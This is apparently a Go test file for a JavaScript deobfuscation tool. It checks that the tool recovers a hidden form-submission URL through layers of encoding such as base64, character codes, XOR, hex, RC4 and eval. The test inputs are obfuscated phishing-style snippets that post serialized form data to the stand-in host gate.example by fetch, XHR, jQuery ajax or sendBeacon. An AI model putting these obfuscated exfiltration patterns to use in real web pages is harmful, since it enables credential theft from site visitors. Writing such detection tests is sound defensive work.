package script

import (
	"strings"
	"testing"
)

func run(src string) Result { return Run([]Source{{Text: src}}, Options{}) }

// Every case must come to the address https://gate.example/p.php, written or called.
func TestUnwrap(t *testing.T) {
	const want = "https://gate.example/p.php"
	page := `<form action="` + want + `"></form>`
	for _, c := range []struct{ name, src, layers string }{
		{"atob", `document.write(atob("PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUuZXhhbXBsZS9wLnBocCI+PC9mb3JtPg=="))`, "atob"},
		{"utf8 atob", `var a='PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUu',b='ZXhhbXBsZS9wLnBocCI+PC9mb3JtPg==';document.write(decodeURIComponent(escape(atob(a+b))));`, "atob"},
		{"unescape", `document.write(unescape("%3Cform%20action%3D%22https%3A%2F%2Fgate.example/p.php%22%3E"))`, "unescape"},
		{"charcodes", `var a=[` + codesOf(page, 3) + `];var s='';for(var i=0;i<a.length;i++){s+=String.fromCharCode(a[i]-3)}document.write(s)`, "fromcharcode"},
		{"charcode apply", `document.write(String.fromCharCode.apply(null,[` + codesOf(page, 0) + `]))`, "fromcharcode"},
		{"charcode map", `document.body.innerHTML=[` + codesOf(page, 0) + `].map(c=>String.fromCharCode(c)).join('')`, "fromcharcode"},
		{"join", `var p=['<form ','act','ion="https:','//gate.','example/','p.php">'];document.open();document.write(p.join(''));document.close()`, "concat"},
		{"reverse", `var p='` + reversed("PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUuZXhhbXBsZS9wLnBocCI+PC9mb3JtPg==") + `';document.write(atob(p.split('').reverse().join('')))`, "reverse,atob"},
		{"xor", `(function(){var d=atob('` + xorB64(page, 37) + `'),o='';for(var i=0;i<d.length;i++)o+=String.fromCharCode(d.charCodeAt(i)^37);document.write(decodeURIComponent(escape(o)))})();`, "atob,xor"},
		{"eval", `eval(atob("ZG9jdW1lbnQud3JpdGUoJzxmb3JtIGFjdGlvbj0iaHR0cHM6Ly9nYXRlLmV4YW1wbGUvcC5waHAiPicp"))`, "atob,eval"},
		{"function constructor", `[]["filter"]["constructor"]("return document")().write('<form action="https://gate.example/p.php">')`, ""},
		{"hex array", `var h=['3c666f726d20616374696f6e3d2268747470733a2f2f676174652e','6578616d706c652f702e706870223e'];document.write(h.join('').match(/../g).map(function(x){return String.fromCharCode(parseInt(x,16))}).join(''))`, "hex,fromcharcode"},
		{"fetch", `var u="https://gate"+".example/p.php";document.getElementById('f').addEventListener('submit',async e=>{e.preventDefault();await fetch(u,{method:'POST',body:new FormData(e.target)})})`, ""},
		{"xhr", `function go(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','https://gate.example/p.php',true);x.send(null);return false}`, ""},
		{"jquery", `$(document).ready(function(){var n=0;$('#b').click(function(ev){n++;if(n<2){$('#e').show();return false}$.ajax({type:'POST',url:atob('aHR0cHM6Ly9nYXRlLmV4YW1wbGUvcC5waHA='),data:$('#f').serialize()})})})`, "atob"},
		{"action", `document.forms['f1'].action=atob('aHR0cHM6Ly9nYXRlLmV4YW1wbGUvcC5waHA=')`, "atob"},
		{"beacon", `window.addEventListener("load",function(){navigator.sendBeacon("https://gate.example/p.php",1)})`, ""},
		{"string table", `var _0xa=['write','bG9n','PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUuZXhhbXBsZS9wLnBocCI+'];(function(t,n){var r=function(k){while(--k){t['push'](t['shift']())}};r(++n)}(_0xa,1));var _0xb=function(i){i=i-0x0;return _0xa[i]};document[_0xb('0x2')](atob(_0xb('0x1')))`, "atob"},
		{"template", "const h='gate.example';const u=`https://${h}/p.php`;function s(){return fetch(u)}", ""},
		{"class", `class K{constructor(u){this.u=u} go(){fetch(this.u)}} const k=new K('https://gate.example/p.php');k.go()`, ""},
		{"location", `setTimeout(function(){window.location.href="https://gate.example/p.php#"+btoa("x")},50)`, ""},
		{"rc4", rc4Case(page), "atob"},
	} {
		r := run(c.src)
		found, layers := "", ""
		for _, w := range r.Writes {
			if strings.Contains(w.Text, want) {
				found, layers = w.Text, strings.Join(w.Layers, ",")
			}
		}
		for _, u := range r.Calls {
			if strings.HasPrefix(u.URL, want) {
				found, layers = u.URL, strings.Join(u.Layers, ",")
			}
		}
		if found == "" {
			t.Errorf("%s: not found; %+v", c.name, r)
			continue
		}
		if c.layers != "" && !strings.HasPrefix(layers, c.layers) {
			t.Errorf("%s: layers %q, want %q", c.name, layers, c.layers)
		}
	}
}
